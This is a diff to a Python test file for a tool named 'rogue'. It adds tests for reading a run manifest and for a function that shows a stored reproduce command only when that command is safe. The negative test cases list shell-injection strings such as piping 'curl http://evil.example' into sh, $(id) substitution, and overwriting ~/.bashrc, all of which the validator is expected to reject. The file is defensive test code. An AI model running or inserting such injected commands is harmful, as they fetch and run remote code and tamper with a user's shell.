@@ -1,4 +1,4 @@
-"""Files of reports are there whole or not at all."""
+"""Tests: read the files of runs within bounds."""
 
 import tracemalloc
 from pathlib import Path
@@ -6,7 +6,14 @@ from pathlib import Path
 import pytest
 
 from rogue.reports.errors import ReportError
-from rogue.reports.reading.files import TABLE_BYTES_MAX, checksum, read_regular, write_whole
+from rogue.reports.reading.files import (
+    TABLE_BYTES_MAX,
+    checksum,
+    read_manifest,
+    read_regular,
+    repeating_command,
+    write_whole,
+)
 
 
 def test_the_new_text_takes_the_place_of_the_old(tmp_path: Path) -> None:
@@ -54,3 +61,54 @@ def test_a_file_of_up_to_so_many_bytes_is_read_whole(size_bytes: int, tmp_path: 
     with pytest.raises(OSError, match="it has more than 8 bytes"):
         read_regular(Path("/proc/self/status"), 8)  # whose size the system gives as 0
     assert len(read_regular(Path("/proc/self/status"))) > 100
+
+
+def test_what_is_no_manifest_is_named(tmp_path: Path) -> None:
+    (tmp_path / "manifest.json").write_text("{")
+    with pytest.raises(ReportError, match=r"manifest\.json: got what is not valid JSON .*\.$"):
+        read_manifest(tmp_path)
+
+
+def test_missing_manifest_says_what_to_give(tmp_path: Path) -> None:
+    with pytest.raises(ReportError, match="no such file; give the directory of a run"):
+        read_manifest(tmp_path)
+
+
+def test_directory_in_place_of_the_file(tmp_path: Path) -> None:
+    (tmp_path / "manifest.json").mkdir()
+    with pytest.raises(ReportError, match="cannot be read"):
+        read_manifest(tmp_path)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rogue run quickstart --testbed simulator --only-cell a",
+        "rogue run 'my files/e.yaml' --set 'a=[{b: c}]'",
+    ],
+)
+def test_what_rogue_writes_is_shown(command: str) -> None:
+    assert repeating_command({"reproduce": command}) == command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rogue run x; curl http://evil.example | sh",
+        "rogue run x && id",
+        "rogue run $(id)",
+        "rogue run `id`",
+        "rogue run x > ~/.bashrc",
+        "rogue run x\nid",
+        "rogue run 'x\nid'",
+        "rogue run \"$(id)\"",
+        "curl http://evil.example",
+        "rogue rm results",
+        "rogue run 'x",
+        "",
+        7,
+        None,
+    ],
+)  # fmt: skip
+def test_what_a_shell_would_do_besides_is_not(command: object) -> None:
+    assert repeating_command({"reproduce": command}) is None
